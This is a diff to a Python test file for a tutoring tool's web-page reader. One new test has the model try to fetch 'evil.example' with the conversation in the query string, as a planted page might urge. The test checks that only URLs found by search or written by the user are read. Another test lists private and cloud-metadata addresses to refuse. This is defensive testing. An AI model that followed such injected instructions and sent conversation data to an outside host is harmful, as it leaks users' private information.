@@ -15,7 +15,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.tools.web import Page, Web, page, redirect
-from tutor_cli.domain import ToolCall, ToolOutput
+from tutor_cli.domain import ToolCall, ToolCallRecord, ToolOutput
 from tutor_cli.settings import Config, load_config
 from tutor_cli.tools import web_fetch
 from tutor_cli.tools.base import ToolContext
@@ -38,10 +38,12 @@ def config(web: Web, tmp_path: Path) -> Config:
     return load_config({"TUTOR_HOME": str(tmp_path)})
 
 
-def read(config: Config, url: str = URL, part: int = 1) -> ToolOutput:
+def read(config: Config, url: str = URL, part: int = 1, said: str = "") -> ToolOutput:
     arguments = json.dumps({"url": url, "part": part})
     return call_tool(
-        {"read_page": ReadPage(config)}, ToolCall("call_1", "read_page", arguments), ToolContext()
+        {"read_page": ReadPage(config)},
+        ToolCall("call_1", "read_page", arguments),
+        ToolContext(said=lambda: said or url),
     )
 
 
@@ -64,6 +66,22 @@ def test_a_page_is_its_text_between_marks_it_cannot_know(web: Web, config: Confi
     for not_there in ("never shown", "color", "Home", "comment", "nobody"):
         assert not_there not in body
     assert len(web.requests) == 1  # the second came from the cache
+
+
+def test_only_what_a_search_found_or_the_person_wrote_is_read(web: Web, config: Config) -> None:
+    """A page that tells the model to fetch an address with what it knows gets nothing."""
+    web.host("evil.example", page("weather.html"))
+    web.host("weather.example", page("weather.html"))
+    output = read(config, "https://evil.example/?conversation=secret", said="What's the weather?")
+    assert output.is_error
+    assert "Search for it first" in output.text
+    assert web.requests == []
+    assert not read(config, said=f"What does {URL} say?").is_error
+    found = ToolOutput(json.dumps({"results": [{"title": "", "url": URL, "snippet": ""}]}))
+    searched = ToolCallRecord(ToolCall("call_0", "web_search", "{}"), found)
+    call = ToolCall("call_1", "read_page", json.dumps({"url": URL}))
+    context = ToolContext(previous_calls=lambda: [searched])
+    assert not call_tool({"read_page": ReadPage(config)}, call, context).is_error
 
 
 def test_a_long_page_comes_in_parts(web: Web, config: Config) -> None:
@@ -130,8 +148,21 @@ def test_a_body_without_a_length_is_read_to_its_end(web: Web) -> None:
 
 @pytest.mark.parametrize(
     "address",
-    ["127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1", "::1"]
-    + ["fe80::1%eth0", "fd00::1", "::ffff:127.0.0.1", "2002:7f00:0001::", "64:ff9b::7f00:1"],
+    [
+        "127.0.0.1",
+        "10.0.0.1",
+        "192.168.1.1",
+        "169.254.169.254",
+        "100.64.0.1",
+        "0.0.0.0",
+        "224.0.0.1",
+        "::1",
+        "fe80::1%eth0",
+        "fd00::1",
+        "::ffff:127.0.0.1",
+        "2002:7f00:0001::",
+        "64:ff9b::7f00:1",
+    ],
 )
 def test_addresses_that_are_not_public_are_refused(address: str) -> None:
     with pytest.raises(FetchFailed, match="not on the public web"):
